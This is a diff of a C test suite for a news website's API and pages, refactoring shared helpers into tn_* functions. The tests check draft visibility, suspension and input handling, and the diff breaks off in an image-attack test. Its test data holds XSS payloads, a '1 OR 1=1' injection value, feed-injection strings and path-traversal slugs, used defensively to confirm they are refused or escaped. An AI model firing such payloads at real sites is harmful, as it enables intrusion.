@@ -32,6 +32,8 @@
 
 #include <cmocka.h>
 
+#include "lib/news.h"
+#include "lib/people.h"
 #include "lib/sqldirect.h"
 #include "lib/testsrv.h"
 
@@ -44,126 +46,30 @@ static const char *db_url;
 static struct ts_browser *api_b;	/* no cookies: token calls */
 static struct ts_browser *visitor;
 
-struct person {
-	const char *email, *name, *role;
-	char token[129];
-	struct ts_browser *web;
-	int64_t id;
-	const char *org;	/* an organization's id as text, or NULL */
-};
-
-static struct person staff_p = { "na.staff@na-news.test", "Nadia Staffwriter", "staff", "",
+static struct tn_person staff_p = { "na.staff@na-news.test", "Nadia Staffwriter", "staff", "",
 	NULL, 0, NULL };
-static struct person admin_p = { "na.admin@na-news.test", "Nils Admin", "admin", "", NULL, 0,
+static struct tn_person admin_p = { "na.admin@na-news.test", "Nils Admin", "admin", "", NULL, 0,
 	NULL };
-static struct person member_p = { "na.member@na-news.test", "Noor Member", "member", "", NULL,
+static struct tn_person member_p = { "na.member@na-news.test", "Noor Member", "member", "", NULL,
 	0, NULL };
-static struct person focal_p = { "na.focal@na-news.test", "Nora Focal", "focal", "", NULL, 0,
+static struct tn_person focal_p = { "na.focal@na-news.test", "Nora Focal", "focal", "", NULL, 0,
 	NULL };
-static struct person applicant_p = { "na.applicant@na-news.test", "Ned Applicant", "applicant",
+static struct tn_person applicant_p = { "na.applicant@na-news.test", "Ned Applicant", "applicant",
 	"", NULL, 0, NULL };
 /* the admin of an organization, and a member of one staff will suspend */
-static struct person orgadmin_p = { "na.orgadmin@na-news.test", "Nell Orgadmin", "member", "",
+static struct tn_person orgadmin_p = { "na.orgadmin@na-news.test", "Nell Orgadmin", "member", "",
 	NULL, 0, NULL };
-static struct person suspended_p = { "na.suspended@na-news.test", "Nick Suspended", "member",
+static struct tn_person suspended_p = { "na.suspended@na-news.test", "Nick Suspended", "member",
 	"", NULL, 0, NULL };
 static char orgadmin_org[24], suspended_org[24];
 
 /* ---- helpers --------------------------------------------------------- */
 
-static const char *
-jstr(json_t *o, const char *key)
-{
-	const char *s = json_string_value(json_object_get(o, key));
-
-	return s ? s : "";
-}
-
-static void
-account(struct person *p)
-{
-	if (p->id)
-		return;
-	p->id = ts_user_add_org(db_url, p->email, p->name, p->role, p->org, PW);
-	assert_true(p->id > 0);
-}
-
-static const char *
-token(struct person *p)
-{
-	const struct ts_res *r;
-	json_t *j;
-
-	if (p->token[0])
-		return p->token;
-	account(p);
-	r = ts_call(api_b, "POST", "/api/v1/session", NULL, json_pack("{s:s,s:s}", "email",
-	    p->email, "password", PW));
-	STATUS(r, 201);
-	j = ts_jbody(r);
-	snprintf(p->token, sizeof p->token, "%s", jstr(j, "token"));
-	json_decref(j);
-	return p->token;
-}
-
-static struct ts_browser *
-web(struct person *p)
-{
-	if (p->web)
-		return p->web;
-	account(p);
-	p->web = ts_browser_new(&srv, NULL);
-	assert_int_equal(ts_signin(p->web, p->email, PW), 303);
-	return p->web;
-}
-
-/* A call as p (NULL: a visitor) with their token. */
-static const struct ts_res *
-as(struct person *p, const char *method, const char *path, json_t *body)
-{
-	return ts_call(api_b, method, path, p ? token(p) : NULL, body);
-}
-
-/* An RFC 9457 problem with status want naming field (when not NULL). */
-static void
-problem(const struct ts_res *r, int want, const char *field)
-{
-	json_t *j;
-
-	STATUS(r, want);
-	j = ts_jbody(r);
-	assert_int_equal(json_integer_value(json_object_get(j, "status")), want);
-	if (field && !json_object_get(json_object_get(j, "errors"), field))
-		printf("# no errors.%s in %s\n", field, r->body);
-	if (field)
-		assert_non_null(json_object_get(json_object_get(j, "errors"), field));
-	json_decref(j);
-}
-
-/* Staff make an item (body: its fields, consumed); its id, its slug in
- * slug (may be NULL). */
-static int64_t
-item_made(json_t *body, char *slug, size_t len)
-{
-	const struct ts_res *r = as(&staff_p, "POST", "/api/v1/news", body);
-	json_t *j;
-	int64_t id;
-
-	STATUS(r, 201);
-	j = ts_jbody(r);
-	id = json_integer_value(json_object_get(j, "id"));
-	if (slug)
-		snprintf(slug, len, "%s", jstr(j, "slug"));
-	json_decref(j);
-	assert_true(id > 0);
-	return id;
-}
-
 /* The total of the JSON list at path as p sees it. */
 static int64_t
-total_for(struct person *p, const char *path)
+total_for(struct tn_person *p, const char *path)
 {
-	const struct ts_res *r = as(p, "GET", path, NULL);
+	const struct ts_res *r = tn_as(p, "GET", path, NULL);
 	json_t *j;
 	int64_t n;
 
@@ -178,16 +84,13 @@ total_for(struct person *p, const char *path)
 static int64_t
 org_made(const char *name, const char *email)
 {
-	char csv[512], out[4096];
-	const char *line;
+	char desc[256];
+	int64_t id;
 
-	snprintf(csv, sizeof csv, "name,kind,country,description,themes,contact_name,"
-	    "contact_email\n%s,ngo,GH,Secret-description-of-%s,corruption,Contact,%s\n", name,
-	    name, email);
-	assert_int_equal(ts_import_csv(db_url, csv, out, sizeof out), 0);
-	line = strstr(out, "created ");
-	assert_non_null(line);
-	return strtoll(line + 8, NULL, 10);
+	snprintf(desc, sizeof desc, "Secret-description-of-%s", name);
+	id = ts_org_import(db_url, name, "GH", email, desc);
+	assert_true(id > 0);
+	return id;
 }
 
 /* Runs python3's XML parser on body: 0 when it is well-formed XML whose
@@ -222,14 +125,14 @@ atom_valid(const char *body)
 /* GET path as p answers 404 with the very problem a slug that never
  * existed gets (its instance aside). */
 static void
-same_404(struct person *p, const char *path)
+same_404(struct tn_person *p, const char *path)
 {
-	const struct ts_res *r = as(p, "GET", "/api/v1/news/na-no-such-item", NULL);
+	const struct ts_res *r = tn_as(p, "GET", "/api/v1/news/na-no-such-item", NULL);
 	json_t *a, *b;
 
 	STATUS(r, 404);
 	a = ts_jbody(r);
-	r = as(p, "GET", path, NULL);
+	r = tn_as(p, "GET", path, NULL);
 	STATUS(r, 404);
 	b = ts_jbody(r);
 	json_object_del(a, "instance");
@@ -244,7 +147,7 @@ same_404(struct person *p, const char *path)
 }
 
 /* The people who read: each with the level they read at. */
-static struct person *const nonstaff[] = { &member_p, &focal_p, &applicant_p, &orgadmin_p };
+static struct tn_person *const nonstaff[] = { &member_p, &focal_p, &applicant_p, &orgadmin_p };
 
 /* ---- drafts and members' items ------------------------------------------- */
 
@@ -284,12 +187,13 @@ test_hidden_everywhere(void **state)
 	before_a = total_for(&applicant_p, "/api/v1/news");
 	before_m = total_for(&member_p, "/api/v1/news");
 	before_f = total_for(&focal_p, "/api/v1/news");
-	r = ts_multipart_api(api_b, "POST", "/api/v1/news", token(&staff_p), parts, 7);
+	r = ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 7);
 	STATUS(r, 201);
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:[s]}", "title", "NA Draft story zebra",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:[s]}", "title",
+	    "NA Draft story zebra",
 	    "kind", "story", "visibility", "members", "slug", "na-draft-story", "themes",
 	    "corruption"), NULL, 0);
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:b,s:[s]}", "title",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b,s:[s]}", "title",
 	    "NA Members highlight okapi", "kind", "highlight", "visibility", "members", "summary",
 	    "NA members summary okapi", "publish", 1, "themes", "corruption"), mslug, sizeof mslug);
 	/* the counts of those who may not read them do not move */
@@ -300,25 +204,27 @@ test_hidden_everywhere(void **state)
 	/* drafts: no list, page, feed or home shows them to anyone but staff */
 	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
 		for (k = 0; lists[k]; k++) {
-			r = as(nonstaff[i], "GET", lists[k], NULL);
+			r = tn_as(nonstaff[i], "GET", lists[k], NULL);
 			STATUS(r, 200);
 			LACKS(r, "zebra");
 			LACKS(r, "na-draft");
 		}
 		for (k = 0; pages[k]; k++) {
-			r = ts_get(web(nonstaff[i]), pages[k]);
+			r = ts_get(tn_web(nonstaff[i]), pages[k]);
 			STATUS(r, 200);
 			LACKS(r, "zebra");
 			LACKS(r, "na-draft");
 		}
-		problem(as(nonstaff[i], "GET", "/api/v1/news/na-draft-highlight", NULL), 404, NULL);
-		problem(as(nonstaff[i], "GET", "/api/v1/news/na-draft-story", NULL), 404, NULL);
-		STATUS(ts_get(web(nonstaff[i]), "/news/na-draft-highlight"), 404);
-		STATUS(ts_get(web(nonstaff[i]), "/news/na-draft-highlight/image"), 404);
-		STATUS(ts_get(web(nonstaff[i]), "/news/na-draft-story"), 404);
+		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/news/na-draft-highlight", NULL), 404,
+		    NULL);
+		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/news/na-draft-story", NULL), 404,
+		    NULL);
+		STATUS(ts_get(tn_web(nonstaff[i]), "/news/na-draft-highlight"), 404);
+		STATUS(ts_get(tn_web(nonstaff[i]), "/news/na-draft-highlight/image"), 404);
+		STATUS(ts_get(tn_web(nonstaff[i]), "/news/na-draft-story"), 404);
 	}
 	for (k = 0; lists[k]; k++) {
-		r = as(NULL, "GET", lists[k], NULL);
+		r = tn_as(NULL, "GET", lists[k], NULL);
 		STATUS(r, 200);
 		LACKS(r, "zebra");
 		LACKS(r, "okapi");
@@ -330,29 +236,29 @@ test_hidden_everywhere(void **state)
 		LACKS(r, "okapi");
 	}
 	STATUS(ts_get(visitor, "/news/na-draft-highlight/image"), 404);
-	r = as(NULL, "GET", "/api/v1/", NULL);	/* the home page's JSON */
+	r = tn_as(NULL, "GET", "/api/v1/", NULL);	/* the home page's JSON */
 	STATUS(r, 200);
 	LACKS(r, "okapi");
 	LACKS(r, "zebra");
-	r = as(&applicant_p, "GET", "/api/v1/", NULL);
+	r = tn_as(&applicant_p, "GET", "/api/v1/", NULL);
 	LACKS(r, "okapi");
-	r = as(&member_p, "GET", "/api/v1/", NULL);
+	r = tn_as(&member_p, "GET", "/api/v1/", NULL);
 	LACKS(r, "zebra");
 	/* the members' item: members and focal points, on the home page too */
-	r = ts_get(web(&member_p), "/");
+	r = ts_get(tn_web(&member_p), "/");
 	HAS(r, "okapi");
-	r = ts_get(web(&focal_p), "/");
+	r = ts_get(tn_web(&focal_p), "/");
 	HAS(r, "okapi");
-	r = ts_get(web(&applicant_p), "/");
+	r = ts_get(tn_web(&applicant_p), "/");
 	LACKS(r, "okapi");
 	/* never in the feed, whoever asks */
-	r = ts_get(web(&staff_p), "/news.atom");
+	r = ts_get(tn_web(&staff_p), "/news.atom");
 	LACKS(r, "okapi");
 	LACKS(r, "zebra");
 	/* staff and admins see the draft, with its image */
-	STATUS(ts_get(web(&staff_p), "/news/na-draft-highlight/image"), 200);
-	STATUS(as(&admin_p, "GET", "/api/v1/news/na-draft-highlight", NULL), 200);
-	STATUS(ts_get(web(&admin_p), "/news/na-draft-story"), 200);
+	STATUS(ts_get(tn_web(&staff_p), "/news/na-draft-highlight/image"), 200);
+	STATUS(tn_as(&admin_p, "GET", "/api/v1/news/na-draft-highlight", NULL), 200);
+	STATUS(ts_get(tn_web(&admin_p), "/news/na-draft-story"), 200);
 	/* a hidden item answers as one that never was: the same problem */
 	same_404(NULL, "/api/v1/news/na-draft-highlight");
 	snprintf(path, sizeof path, "/api/v1/news/%s", mslug);
@@ -378,64 +284,65 @@ test_suspended_and_disabled(void **state)
 	int64_t org = strtoll(suspended_org, NULL, 10);
 
 	(void)state;
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA For members gazelle",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
+	    "NA For members gazelle",
 	    "kind", "highlight", "visibility", "members", "slug", "na-members-gazelle", "publish",
 	    1), slug, sizeof slug);
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
 	snprintf(page, sizeof page, "/news/%s", slug);
-	STATUS(as(&suspended_p, "GET", path, NULL), 200);
-	r = ts_get(web(&suspended_p), "/");
+	STATUS(tn_as(&suspended_p, "GET", path, NULL), 200);
+	r = ts_get(tn_web(&suspended_p), "/");
 	HAS(r, "gazelle");
 	snprintf(path, sizeof path, "/organizations/%lld/status", (long long)org);
-	STATUS(ts_form(web(&staff_p), path, "status", "suspended", (char *)NULL), 303);
+	STATUS(ts_form(tn_web(&staff_p), path, "status", "suspended", (char *)NULL), 303);
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
-	problem(as(&suspended_p, "GET", path, NULL), 404, NULL);
-	STATUS(ts_get(web(&suspended_p), page), 404);
-	r = ts_get(web(&suspended_p), "/");
+	tn_problem(tn_as(&suspended_p, "GET", path, NULL), 404, NULL);
+	STATUS(ts_get(tn_web(&suspended_p), page), 404);
+	r = ts_get(tn_web(&suspended_p), "/");
 	LACKS(r, "gazelle");
-	r = as(&suspended_p, "GET", "/api/v1/news?kind=highlight", NULL);
+	r = tn_as(&suspended_p, "GET", "/api/v1/news?kind=highlight", NULL);
 	STATUS(r, 200);
 	LACKS(r, "gazelle");
-	r = ts_get(web(&suspended_p), "/news");
+	r = ts_get(tn_web(&suspended_p), "/news");
 	LACKS(r, "gazelle");
-	STATUS(ts_get(web(&suspended_p), "/staff/news"), 403);
+	STATUS(ts_get(tn_web(&suspended_p), "/staff/news"), 403);
 	/* reinstated */
 	snprintf(path, sizeof path, "/organizations/%lld/status", (long long)org);
-	STATUS(ts_form(web(&staff_p), path, "status", "approved", (char *)NULL), 303);
+	STATUS(ts_form(tn_web(&staff_p), path, "status", "approved", (char *)NULL), 303);
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
-	STATUS(as(&suspended_p, "GET", path, NULL), 200);
+	STATUS(tn_as(&suspended_p, "GET", path, NULL), 200);
 	/* one who leaves their only organization reads it no more */
 	{
-		static struct person goer = { "na.goer@na-news.test", "Nat Goer", "member", "",
+		static struct tn_person goer = { "na.goer@na-news.test", "Nat Goer", "member", "",
 			NULL, 0, NULL };
 		char lp[120];
 
 		goer.org = orgadmin_org;
-		STATUS(as(&goer, "GET", path, NULL), 200);
+		STATUS(tn_as(&goer, "GET", path, NULL), 200);
 		snprintf(lp, sizeof lp, "/api/v1/organizations/%s/leave", orgadmin_org);
-		r = as(&goer, "POST", lp, NULL);
+		r = tn_as(&goer, "POST", lp, NULL);
 		if (r->status != 200)
 			printf("# leave: %ld %s\n", r->status, r->body);
 		STATUS(r, 200);
-		r = as(&goer, "GET", path, NULL);
+		r = tn_as(&goer, "GET", path, NULL);
 		if (r->status != 404)
 			printf("# after leaving: %ld\n", r->status);
-		problem(r, 404, NULL);
+		tn_problem(r, 404, NULL);
 	}
 	/* the organization's admin reads it; disabled, they do not */
-	STATUS(as(&orgadmin_p, "GET", path, NULL), 200);
-	STATUS(ts_get(web(&orgadmin_p), page), 200);
+	STATUS(tn_as(&orgadmin_p, "GET", path, NULL), 200);
+	STATUS(ts_get(tn_web(&orgadmin_p), page), 200);
 	snprintf(page, sizeof page, "/admin/users/%lld/status", (long long)orgadmin_p.id);
-	STATUS(as(&admin_p, "POST", page, json_pack("{s:s}", "status", "disabled")), 303);
-	r = as(&orgadmin_p, "GET", path, NULL);
+	STATUS(tn_as(&admin_p, "POST", page, json_pack("{s:s}", "status", "disabled")), 303);
+	r = tn_as(&orgadmin_p, "GET", path, NULL);
 	assert_true(r->status == 401 || r->status == 404);
 	LACKS(r, "NA For members");
 	snprintf(page, sizeof page, "/news/%s", slug);
-	r = ts_get(web(&orgadmin_p), page);
+	r = ts_get(tn_web(&orgadmin_p), page);
 	assert_true(r->status == 404 || r->status == 303 || r->status == 401);
 	LACKS(r, "NA For members");
 	snprintf(page, sizeof page, "/admin/users/%lld/status", (long long)orgadmin_p.id);
-	STATUS(as(&admin_p, "POST", page, json_pack("{s:s}", "status", "active")), 303);
+	STATUS(tn_as(&admin_p, "POST", page, json_pack("{s:s}", "status", "active")), 303);
 	orgadmin_p.token[0] = '\0';
 	ts_browser_free(orgadmin_p.web);
 	orgadmin_p.web = NULL;
@@ -452,7 +359,7 @@ test_story_organizations(void **state)
 	int64_t pend = org_made("NA Pending Quokka", "c@na-pending.example");
 	int64_t rej = org_made("NA Rejected Quokka", "c@na-rejected.example");
 	int64_t sus = org_made("NA Suspended Quokka", "c@na-suspended.example");
-	struct person *readers[] = { NULL, &member_p, &focal_p, &applicant_p, &orgadmin_p };
+	struct tn_person *readers[] = { NULL, &member_p, &focal_p, &applicant_p, &orgadmin_p };
 	char slug[100], path[200], page[200];
 	const struct ts_res *r;
 	json_t *j, *o;
@@ -464,15 +371,15 @@ test_story_organizations(void **state)
 	(void)ts_sql_int("UPDATE organizations SET status = 'rejected' WHERE id = %lld",
 	    (long long)rej);
 	snprintf(path, sizeof path, "/organizations/%lld/status", (long long)sus);
-	STATUS(ts_form(web(&staff_p), path, "status", "suspended", (char *)NULL), 303);
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:b,s:[I,I,I,I]}", "title",
+	STATUS(ts_form(tn_web(&staff_p), path, "status", "suspended", (char *)NULL), 303);
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b,s:[I,I,I,I]}", "title",
 	    "NA Four groups", "kind", "story", "visibility", "public", "summary",
 	    "NA four groups summary", "publish", 1, "organizations", (json_int_t)ok,
 	    (json_int_t)pend, (json_int_t)rej, (json_int_t)sus), slug, sizeof slug);
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
 	snprintf(page, sizeof page, "/news/%s", slug);
 	for (i = 0; i < sizeof readers / sizeof readers[0]; i++) {
-		r = as(readers[i], "GET", path, NULL);
+		r = tn_as(readers[i], "GET", path, NULL);
 		STATUS(r, 200);
 		LACKS(r, "Quokka");
 		LACKS(r, "Secret-description");
@@ -483,32 +390,33 @@ test_story_organizations(void **state)
 		assert_int_equal(json_integer_value(json_object_get(o, "id")), ok);
 		assert_int_equal(json_object_size(o), 3);	/* id, name, url */
 		json_decref(j);
-		r = readers[i] ? ts_get(web(readers[i]), page) : ts_get(visitor, page);
+		r = readers[i] ? ts_get(tn_web(readers[i]), page) : ts_get(visitor, page);
 		STATUS(r, 200);
 		HAS(r, "NA Approved Harbour");
 		LACKS(r, "Quokka");
 		LACKS(r, "Secret-description");
 		LACKS(r, "na-approved.example");
-		r = as(readers[i], "GET", "/api/v1/news?kind=story", NULL);
+		r = tn_as(readers[i], "GET", "/api/v1/news?kind=story", NULL);
 		LACKS(r, "Quokka");
 	}
 	/* staff too see only those the story may name now */
-	r = as(&staff_p, "GET", path, NULL);
+	r = tn_as(&staff_p, "GET", path, NULL);
 	LACKS(r, "Quokka");
 	r = ts_get(visitor, "/news.atom");
 	LACKS(r, "Quokka");
 	LACKS(r, "Harbour");
 	/* a story may not name more than its limit, nor organizations by name */
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA Named by name", "kind", "story", "visibility", "public", "organizations",
 	    "NA Approved Harbour")), 422, "organizations");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA Named by sql", "kind", "story", "visibility", "public", "organizations",
 	    "1 OR 1=1")), 422, "organizations");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA Too many", "kind", "story", "visibility", "public", "organizations",
 	    "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21")), 422, "organizations");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:{s:i}}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:{s:i}}",
+	    "title",
 	    "NA Named by object", "kind", "story", "visibility", "public", "organizations", "id",
 	    1)), 422, "organizations");
 }
@@ -548,24 +456,24 @@ test_hostile_markdown(void **state)
 	size_t k;
 
 	(void)state;
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:s,s:b}", "title",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:s,s:b}", "title",
 	    "NA <script>alert('t')</script> \"quoted\" & <b>bold</b>", "kind", "news", "summary",
 	    "NA <img src=x onerror=alert('sum')> summary", "body", body, "visibility", "public",
 	    "publish", 1), slug, sizeof slug);
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
 	snprintf(page, sizeof page, "/news/%s", slug);
-	r = as(NULL, "GET", path, NULL);
+	r = tn_as(NULL, "GET", path, NULL);
 	STATUS(r, 200);
 	j = ts_jbody(r);
 	for (k = 0; bad[k]; k++) {
-		if (strstr(jstr(j, "body_html"), bad[k]))
-			printf("# body_html has %s: %s\n", bad[k], jstr(j, "body_html"));
-		assert_null(strstr(jstr(j, "body_html"), bad[k]));
+		if (strstr(tn_jstr(j, "body_html"), bad[k]))
+			printf("# body_html has %s: %s\n", bad[k], tn_jstr(j, "body_html"));
+		assert_null(strstr(tn_jstr(j, "body_html"), bad[k]));
 	}
-	assert_non_null(strstr(jstr(j, "body_html"), "href=\"https://example.org/ok\""));
-	assert_non_null(strstr(jstr(j, "body_html"), "href=\"/about\""));
+	assert_non_null(strstr(tn_jstr(j, "body_html"), "href=\"https://example.org/ok\""));
+	assert_non_null(strstr(tn_jstr(j, "body_html"), "href=\"/about\""));
 	/* the title is text as typed, to be escaped where shown */
-	assert_string_equal(jstr(j, "title"),
+	assert_string_equal(tn_jstr(j, "title"),
 	    "NA <script>alert('t')</script> \"quoted\" & <b>bold</b>");
 	json_decref(j);
 	r = ts_get(visitor, page);
@@ -584,21 +492,22 @@ test_hostile_markdown(void **state)
 	LACKS(r, "<img src=x");
 	/* staff's own pages show it as text too: the list, and the form, whose
 	 * textarea a body cannot close */
-	id = item_made(json_pack("{s:s,s:s,s:s,s:s,s:s,s:s}", "title",
+	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:s,s:s}", "title",
 	    "NA </title><script>alert('st')</script>", "kind", "news", "summary",
 	    "NA </textarea><script>alert('ss')</script>", "body",
 	    "NA </textarea><script>alert('sb')</script>", "visibility", "public",
 	    "image_alt", "NA \"><script>alert('alt')</script>"), NULL, 0);
-	r = ts_get(web(&staff_p), "/staff/news?status=draft");
+	r = ts_get(tn_web(&staff_p), "/staff/news?status=draft");
 	STATUS(r, 200);
 	LACKS(r, "<script>alert");
 	snprintf(path, sizeof path, "/staff/news/%lld", (long long)id);
-	r = ts_get(web(&staff_p), path);
+	r = ts_get(tn_web(&staff_p), path);
 	STATUS(r, 200);
 	LACKS(r, "<script>alert");
 	LACKS(r, "</textarea><script>");
 	/* a refused form shows what was typed, as text */
-	r = ts_form(web(&staff_p), "/staff/news/new", "title", "NA \"><script>alert('f')</script>",
+	r = ts_form(tn_web(&staff_p), "/staff/news/new", "title",
+	    "NA \"><script>alert('f')</script>",
 	    "kind", "bogus", "visibility", "public", "organizations",
 	    "\"><script>alert('o')</script>", "slug", "\"><svg onload=alert(1)>", (char *)NULL);
 	STATUS(r, 422);
@@ -615,12 +524,12 @@ test_feed_hostile(void **state)
 	const struct ts_res *r;
 
 	(void)state;
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
 	    "NA ]]></title><entry><title>injected</title></entry><![CDATA[ &amp; &bogus; <x>",
 	    "kind", "news", "summary", "NA </summary><script>alert(1)</script> ]]> &#0; & <",
 	    "visibility", "public", "publish", 1), NULL, 0);
 	/* U+FFFE and U+FFFF are UTF-8 but no XML character */
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
 	    "NA non-characters \xef\xbf\xbe and \xef\xbf\xbf here", "kind", "news", "summary",
 	    "NA \xef\xbf\xbf", "visibility", "public", "publish", 1), NULL, 0);
 	r = ts_get(visitor, "/news.atom");
@@ -632,12 +541,12 @@ test_feed_hostile(void **state)
 		printf("# the feed is not well-formed XML:\n%s\n", r->body);
 	assert_int_equal(atom_valid(r->body), 0);
 	/* control characters XML cannot carry are refused at the door */
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
 	    "NA bell \x07 title", "kind", "news", "visibility", "public")), 422, "title");
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA escape title", "kind", "news", "visibility", "public", "summary",
 	    "NA \x1b[31m red")), 422, "summary");
-	r = ts_api(api_b, "POST", "/api/v1/news", token(&staff_p), "{\"title\":\"NA bad utf-8\","
+	r = ts_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), "{\"title\":\"NA bad utf-8\","
 	    "\"kind\":\"news\",\"visibility\":\"public\",\"body\":\"NA \xc3\x28\"}");
 	assert_true(r->status == 400 || r->status == 422);
 }
@@ -660,30 +569,32 @@ test_slug_tricks(void **state)
 
 	(void)state;
 	for (k = 0; refused[k]; k++)
-		problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}",
+		tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}",
 		    "title", "NA slug trick", "kind", "news", "visibility", "public", "slug",
 		    refused[k])), 422, "slug");
 	memset(long_slug, 'a', 81);
 	long_slug[81] = '\0';
-	problem(as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
+	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
 	    "NA slug too long", "kind", "news", "visibility", "public", "slug", long_slug)), 422,
 	    "slug");
 	/* words that look like routes are items like any other */
-	id = item_made(json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA The image", "kind",
+	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA The image",
+	    "kind",
 	    "news", "visibility", "public", "slug", "image", "publish", 1), slug, sizeof slug);
 	assert_string_equal(slug, "image");
-	r = as(NULL, "GET", "/api/v1/news/image", NULL);
+	r = tn_as(NULL, "GET", "/api/v1/news/image", NULL);
 	STATUS(r, 200);
 	HAS(r, "NA The image");
 	STATUS(ts_get(visitor, "/news/image/image"), 404);	/* it has none */
-	(void)item_made(json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA The new one", "kind",
+	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s,s:b}", "title", "NA The new one",
+	    "kind",
 	    "news", "visibility", "public", "slug", "new", "publish", 1), NULL, 0);
 	STATUS(ts_get(visitor, "/news/new"), 200);
-	STATUS(ts_get(web(&staff_p), "/staff/news/new"), 200);	/* the form still */
+	STATUS(ts_get(tn_web(&staff_p), "/staff/news/new"), 200);	/* the form still */
 	/* an id is no slug: neither the page nor the JSON finds item id by it */
 	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
-	problem(as(NULL, "GET", path, NULL), 404, NULL);
-	problem(as(&staff_p, "GET", path, NULL), 404, NULL);
+	tn_problem(tn_as(NULL, "GET", path, NULL), 404, NULL);
+	tn_problem(tn_as(&staff_p, "GET", path, NULL), 404, NULL);
 	snprintf(path, sizeof path, "/news/%lld", (long long)id);
 	STATUS(ts_get(visitor, path), 404);
 	/* case, encodings and dots find nothing */
@@ -701,21 +612,22 @@ test_slug_tricks(void **state)
 		HAS(r, "NA The image");
 	/* a PATCH to a refused slug changes nothing */
 	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
-	problem(as(&staff_p, "PATCH", path, json_pack("{s:s}", "slug", "../../x")), 422, "slug");
-	STATUS(as(NULL, "GET", "/api/v1/news/image", NULL), 200);
+	tn_problem(tn_as(&staff_p, "PATCH", path, json_pack("{s:s}", "slug", "../../x")), 422,
+	    "slug");
+	STATUS(tn_as(NULL, "GET", "/api/v1/news/image", NULL), 200);
 	/* a title with no Latin letter or digit still gets a slug */
-	r = as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
+	r = tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
 	    "\xe6\x97\xa5\xe6\x9c\xac\xe3\x81\xae\xe3\x83\x8b\xe3\x83\xa5\xe3\x83\xbc\xe3\x82\xb9",
 	    "kind", "news", "visibility", "public"));
 	STATUS(r, 201);
 	j = ts_jbody(r);
-	snprintf(slug, sizeof slug, "%s", jstr(j, "slug"));
+	snprintf(slug, sizeof slug, "%s", tn_jstr(j, "slug"));
 	json_decref(j);
 	assert_true(strlen(slug) >= 3);
 	assert_true(slug[strlen(slug) - 1] != '-');
 	assert_null(strstr(slug, "--"));
 	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
-	STATUS(as(&staff_p, "GET", path, NULL), 200);
+	STATUS(tn_as(&staff_p, "GET", path, NULL), 200);
 }
 
 /* Waits until the stored files are n again: a request's unclaimed uploads
@@ -761,35 +673,39 @@ test_image_attacks(void **state)
 
 	(void)state;
 	files = ts_sql_int("SELECT count(*) FROM files");
